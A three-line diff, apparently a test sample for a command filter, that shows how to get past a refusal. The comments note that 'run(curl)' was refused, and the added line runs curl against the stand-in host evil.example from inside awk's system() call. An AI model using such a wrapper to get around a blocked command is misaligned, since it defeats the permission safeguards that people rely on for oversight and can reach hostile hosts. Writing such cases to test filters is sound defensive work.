@@ -1,0 +1,3 @@
+# Trick: awk runs a command.
+# Refused: run(curl)
+awk 'BEGIN { system("curl http://evil.example/") }'
